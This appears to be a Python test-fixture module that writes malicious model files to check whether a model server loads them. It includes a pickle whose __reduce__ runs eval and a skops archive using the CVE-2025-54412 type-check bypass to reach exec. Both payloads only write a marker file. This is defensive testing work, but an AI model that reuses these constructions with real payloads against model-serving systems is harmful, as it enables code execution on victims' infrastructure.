"""Model files that run code when they are loaded: each writes ``marker``, so a test can tell
whether the server ever loaded it.

- a pickle whose ``__reduce__`` calls ``eval`` (and returns a working estimator, so a server that
  loads it reports ready, as stock KServe's does);
- a skops file with the type-check bypass of CVE-2025-54412 (GHSA-m7f4-hrc6-fwg3), as its
  advisory describes it: an ``OperatorFuncNode`` whose ``__module__`` is a harmless-looking name,
  so skops < 0.12 listed (and checked) ``sklearn.linear_model._stochastic_gradient.SGDRegressor.call``
  and ``skops.io.loads`` while it called ``operator.call(skops.io.loads, <a hidden skops file>,
  <its own trusted list>)``, and the hidden file ``operator.call(exec, <code>)``. skops 0.12
  requires the module of an OperatorFuncNode to be ``operator``. ``disguised=False`` writes the
  same payload under its true names, which runs on any skops version for whoever trusts
  ``operator.call`` and ``skops.io.loads``: it shows the payload is real.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path

# What skops 0.11 listed as the file's untrusted types (and would then construct, trusted).
CVE_2025_54412_SHOWN_TYPES = ["sklearn.linear_model._stochastic_gradient.SGDRegressor.call", "skops.io.loads"]
CVE_2025_54412_TRUE_TYPES = ["operator.call", "skops.io.loads"]


def _writes_marker(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


class _RunsCode:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        dummy = "__import__('sklearn.dummy', fromlist=['DummyClassifier']).DummyClassifier()"
        expression = f"({_writes_marker(self.marker)}, {dummy}.fit([[0.0, 0.0], [1.0, 1.0]], [0, 1]))[1]"
        return eval, (expression,)


def write_pickle(path: Path, marker: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(_RunsCode(marker)))
    return path


def write_skops_cve_2025_54412(path: Path, marker: Path, disguised: bool = True) -> Path:
    outer_module = "sklearn.linear_model._stochastic_gradient.SGDRegressor" if disguised else "operator"
    inner_module = "sk" if disguised else "operator"
    inner = _operator_call(inner_module, [_node("TypeNode", "builtins", "exec"), _string(_writes_marker(marker))])
    inner_trusted = _node(
        "ListNode", "builtins", "list", content=[_string("builtins.exec"), _string(f"{inner_module}.call")]
    )
    outer = _operator_call(
        outer_module,
        [
            _node("TypeNode", "skops.io", "loads"),
            _node("BytesNode", "builtins", "bytes", file="hidden.skops"),
            inner_trusted,
        ],
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_zip(outer, {"hidden.skops": _zip(inner)}))
    return path


def _node(loader: str, module: str, name: str, **state) -> dict:
    return {"__loader__": loader, "__module__": module, "__class__": name, **state}


def _string(value: str) -> dict:
    return _node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def _operator_call(module: str, arguments: list) -> dict:
    return _node(
        "OperatorFuncNode",
        module,
        "call",
        attrs=_node("TupleNode", "builtins", "tuple", content=arguments),
        protocol=2,  # skops' protocol since 0.10, the advisory's
        _skops_version="0.11.0",
    )


def _zip(schema: dict, members: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, data in (members or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()
